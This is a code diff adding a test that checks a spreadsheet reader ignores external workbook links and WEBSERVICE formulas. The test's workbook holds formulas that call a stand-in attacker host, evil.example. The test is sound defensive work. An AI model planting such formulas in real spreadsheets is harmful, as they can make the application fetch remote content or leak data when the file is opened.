@@ -93,6 +93,16 @@ def test_a_broken_sheet_in_a_sound_archive_is_told() -> None:
             list(tables.read(out.getvalue()))
 
 
+def test_links_to_other_files_are_not_followed() -> None:
+    """Nor is what a formula says taken for a value."""
+    book = Workbook()
+    book.worksheets[0].append(["name", "='http://evil.example/[b.xlsx]S'!A1", '=WEBSERVICE("http://evil.example")'])
+    out = io.BytesIO()
+    book.save(out)
+    (row,) = tables.read(out.getvalue())
+    assert row[1] == ["name", "", ""] or row[1] == ["name"]
+
+
 def test_a_sheet_whose_bytes_are_damaged_is_told() -> None:
     """Its archive opens all the same: the sheet is unpacked row by row."""
     whole = tables.xlsx_bytes({"s": [[f"客户{number}", "A"] for number in range(2000)]})
